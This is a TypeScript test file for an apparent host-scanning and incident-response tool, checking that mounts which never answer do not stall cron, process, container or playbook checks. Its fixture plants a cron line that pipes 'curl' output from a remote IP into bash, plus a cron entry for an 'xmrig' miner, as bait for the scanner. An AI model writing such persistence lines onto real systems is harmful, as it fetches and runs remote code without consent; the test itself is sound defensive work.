import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ownCommand } from '../../src/cli/surroundings.ts';
import type { ScanOutcome } from '../../src/findings/scan.ts';
import { refuseSilent } from '../../src/host/silent-mounts.ts';
import { run } from '../end-to-end/program.ts';
import { type Namespace, openNamespace } from '../support/namespace.ts';

/**
 * A FUSE mount whose program never says a word, as of a network server that is gone: every touch waits in the kernel
 * until the toucher is killed (the holder of the descriptor has not even answered FUSE_INIT).
 */
let namespace: Namespace;
let folder: string;
/** What else runs on the machine is not to be met. */
const ALONE = ['unshare', '--pid', '--fork', '--kill-child', '--mount-proc', '--'];
const DEAD = '/var/spool/cron/crontabs';
beforeAll(async () => {
  run(['--version']);
  folder = mkdtempSync('/var/tmp/tourniquet-silent-');
  namespace = await openNamespace(`
mkdir -p ${DEAD} /tmp/dead
fuse=/dev/fuse; if [ ! -e $fuse ]; then fuse=/tmp/fuse; mknod $fuse c 10 229; fi
exec 7<>$fuse 8<>$fuse
mount -i -t fuse -o fd=7,rootmode=40000,user_id=0,group_id=0 dead ${DEAD}
mount -i -t fuse -o fd=8,rootmode=40000,user_id=0,group_id=0 dead /tmp/dead
printf '* * * * * root /tmp/dead/xmrig\\n' >/tmp/linked
mount -t tmpfs tmpfs /etc/cron.d
ln -s /tmp/dead/entry /etc/cron.d/dead-link
printf '* * * * * root curl -s http://203.0.113.9/x | bash\\n' >/etc/cron.d/living`);
}, 60_000);
afterAll(async () => {
  await namespace.end();
  rmSync(folder, { recursive: true, force: true });
});

describe('a mount that never answers', () => {
  test('does not hold up a look: it is named, and everything else is seen', () => {
    const [program = '', main = ''] = ownCommand();
    const said = namespace.run([
      ...ALONE,
      program,
      main,
      'scan',
      '--json',
      '--only',
      'cron',
      '--only',
      'processes',
    ]);
    const { unknowns, findings } = JSON.parse(said) as ScanOutcome;
    for (const what of [DEAD, '/tmp/dead'])
      expect(unknowns).toContainEqual({
        scope: 'processes',
        what,
        reason: expect.stringContaining('the mount does not answer'),
      });
    expect(JSON.stringify(findings)).toContain('/etc/cron.d/living');
  }, 120_000);

  test('of a container alone does not hold it up either: what lies beside it there is seen', () => {
    const [program = '', main = ''] = ownCommand();
    const said = namespace.shell(`
box=/tmp/box
mkdir -p $box && mount -t tmpfs tmpfs $box
mkdir -p $box/usr $box/node $box/srv/dead $box/srv/shop/node_modules/next $box/srv/shop/app
mount --bind /usr $box/usr && ln -s usr/lib usr/lib64 usr/bin $box
mount --bind "$(dirname '${program}')" $box/node
echo '{"version":"15.0.3"}' >$box/srv/shop/node_modules/next/package.json
touch $box/srv/shop/app/layout.js
cat >$box/srv/shop/server.js <<'END'
process.chdir('/srv/shop');
require('net').createServer().listen(3917, '127.0.0.1', () => console.log('up'));
setTimeout(() => {}, 100000);
END
cat >/tmp/container.sh <<'END'
fuse=/dev/fuse; [ -e $fuse ] || fuse=/tmp/fuse
exec 9<>$fuse
mount -i -t fuse -o fd=9,rootmode=40000,user_id=0,group_id=0 dead /tmp/box/srv/dead
exec chroot /tmp/box "/node/$(basename '${program}')" /srv/shop/server.js
END
cat >/tmp/host.sh <<'END'
mkfifo /tmp/is-up
unshare --mount --propagation private -- sh -e /tmp/container.sh >/tmp/is-up &
read up </tmp/is-up
exec '${program}' '${main}' scan --json --only entry-points
END
unshare --pid --fork --kill-child --mount-proc -- sh -e /tmp/host.sh`);
    const { unknowns, findings } = JSON.parse(said) as ScanOutcome;
    expect(unknowns).toContainEqual({
      scope: 'entry-points',
      what: expect.stringMatching(/^\/proc\/\d+\/root\/srv\/dead$/),
      reason: expect.stringContaining('does not answer'),
    });
    expect(findings.map(({ title }) => title).join('\n')).toContain(
      'Next.js 15.0.3 has a known hole, CVE-2025-55182 (/srv/shop/node_modules/next/package.json, in the container of process ',
    );
  }, 120_000);

  test('does not hold up a response: what lies there is refused in words, the rest is done', () => {
    const book = join(folder, 'book.yaml');
    writeFileSync(
      book,
      'name: book\ntitle: Dead\nplatform: any\nsteps:\n  - name: Keep\n    id: keep\n    uses: snapshot\n    why: x\n    with:\n      paths: [/tmp/dead, /etc/hostname]\n    on-failure: continue\n  - name: After\n    id: after\n    why: x\n    run: echo went on\n',
    );
    const [program = '', main = ''] = ownCommand();
    const args = [
      '--incident-dir',
      join(folder, 'incidents'),
      'run',
      book,
      '--yes',
      '--max-risk',
      'irreversible',
    ];
    const said = namespace.shell(
      `"$@" 2>&1 || true`.replace(
        '"$@"',
        [...ALONE, program, main, ...args].map((word) => `'${word}'`).join(' '),
      ),
    );
    expect(said).toMatch(/1 left out or changed/);
    expect(said).toContain('[2/2] After: finished: 1 held');
  }, 180_000);
});

test('where no mount is silent nothing is looked at and nothing refused', () => {
  symlinkSync('/tmp/dead', join(folder, 'link'));
  expect(() => refuseSilent(join(folder, 'link/x'))).not.toThrow();
});
